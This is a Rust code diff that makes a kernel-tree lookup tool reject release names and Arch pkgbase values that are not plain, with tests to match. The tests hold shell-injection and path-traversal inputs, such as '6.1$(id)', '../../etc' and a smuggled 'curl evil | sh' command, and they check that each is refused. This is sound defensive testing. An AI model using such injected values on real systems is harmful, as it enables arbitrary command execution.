@@ -46,6 +46,14 @@ pub enum Error {
         /// The file that every prepared build tree has.
         missing: &'static str,
     },
+    /// A kernel build tree says that its kernel is called what no kernel is.
+    #[error("{} is of no kernel: its release is said to be '{}'", path.display(), text.escape_debug())]
+    NoRelease {
+        /// The directory.
+        path: PathBuf,
+        /// What it says.
+        text: String,
+    },
 }
 
 /// One kernel.
@@ -195,7 +203,8 @@ pub fn of_release(root: &Root, release: &str) -> Result<Option<Kernel>, Error> {
     found.map(|(release, dir)| read_installed(root, release, dir)).transpose()
 }
 
-/// The directories that hold, or held, installed kernels' modules, with their releases; oldest first.
+/// The directories that hold, or held, installed kernels' modules, with their releases; oldest first. One whose name is no
+/// release's is no kernel's.
 pub fn trees(root: &Root) -> Result<Vec<(String, PathBuf)>, Error> {
     let mut found: Vec<(String, PathBuf)> = Vec::new();
     for parent in modules_dirs(root) {
@@ -203,7 +212,7 @@ pub fn trees(root: &Root) -> Result<Vec<(String, PathBuf)>, Error> {
             let entry = entry?;
             let Ok(name) = entry.file_name().into_string() else { continue };
             let new = !found.iter().any(|(release, _)| *release == name);
-            if new && !name.starts_with('.') && entry.file_type()?.is_dir() {
+            if new && release::is_plain(&name) && entry.file_type()?.is_dir() {
                 found.push((name, entry.path()));
             }
         }
@@ -227,6 +236,9 @@ pub fn at_path(root: &Root, path: &Path) -> Result<Kernel, Error> {
         path: path.clone(),
         missing: "include/config/kernel.release",
     })?;
+    if !release::is_plain(&release) {
+        return Err(Error::NoRelease { path, text: release });
+    }
     let canonical = PathBuf::from(format!("/usr/src/linux-headers-{release}"));
     let modules = ["/lib/modules", "/usr/lib/modules"]
         .iter()
@@ -480,7 +492,10 @@ pub fn headers_hint(root: &Root, release: &str) -> String {
     } else if is("arch") {
         let base =
             root.find(format!("/lib/modules/{release}/pkgbase")).and_then(|path| source::config(&path).ok());
-        format!("pacman -S {}-headers", base.as_deref().map_or("linux", str::trim))
+        format!(
+            "pacman -S {}-headers",
+            base.as_deref().map(str::trim).filter(|base| release::is_plain(base)).unwrap_or("linux")
+        )
     } else if is("suse") || is("opensuse") {
         "zypper install kernel-devel kernel-default-devel".to_owned()
     } else {
@@ -643,6 +658,42 @@ mod tests {
         image[0x500..0x51c].copy_from_slice(b"6.1.0 (me@host) #1 SMP (day)");
         assert_eq!(bz_image_text(&image).as_deref(), Some("6.1.0 (me@host) #1 SMP (day)"));
         assert_eq!(bz_image_text(&image[..0x204]), None);
+    }
+
+    /// A tree under `--root`, and a kernel build tree given by path, may be anybody's.
+    #[test]
+    fn what_cannot_be_a_release_is_no_kernel() {
+        let (dir, root) = debian();
+        let before = trees(&root).unwrap().len();
+        for name in ["6.1$(id)", "6.1;id", "6.1 x", "6.1\nx", "-k", "6.1`id`", "6.1'"] {
+            fs::create_dir(dir.path().join("lib/modules").join(name)).unwrap();
+        }
+        assert_eq!(trees(&root).unwrap().len(), before);
+        for name in ["6.1.0_1", "6.6.0-rc1+", "6.13~rc4-1", "4.18.0-372.el8.x86_64+debug"] {
+            fs::create_dir(dir.path().join("lib/modules").join(name)).unwrap();
+            assert!(of_release(&root, name).unwrap().is_some(), "{name}");
+        }
+        let tree = dir.path().join("usr/src/hostile");
+        fs::create_dir_all(tree.join("include/config")).unwrap();
+        for text in ["../../etc", "6.1/../..", "6.1$(id)", "."] {
+            fs::write(tree.join("include/config/kernel.release"), text).unwrap();
+            assert!(matches!(at_path(&root, &tree), Err(Error::NoRelease { .. })), "{text}");
+        }
+    }
+
+    /// What Arch's kernels call themselves is a file of the tree.
+    #[test]
+    fn a_hint_holds_one_command() {
+        let dir = tempfile::tempdir().unwrap();
+        fs::create_dir_all(dir.path().join("etc")).unwrap();
+        fs::create_dir_all(dir.path().join("lib/modules/6.1")).unwrap();
+        fs::write(dir.path().join("etc/os-release"), "ID=arch\n").unwrap();
+        let check = |base: &str, expect: &str| {
+            fs::write(dir.path().join("lib/modules/6.1/pkgbase"), base).unwrap();
+            assert_eq!(headers_hint(&Root::new(dir.path()), "6.1"), expect);
+        };
+        check("linux-lts\n", "pacman -S linux-lts-headers");
+        check("linux; curl evil | sh;\n", "pacman -S linux-headers");
     }
 
     #[test]
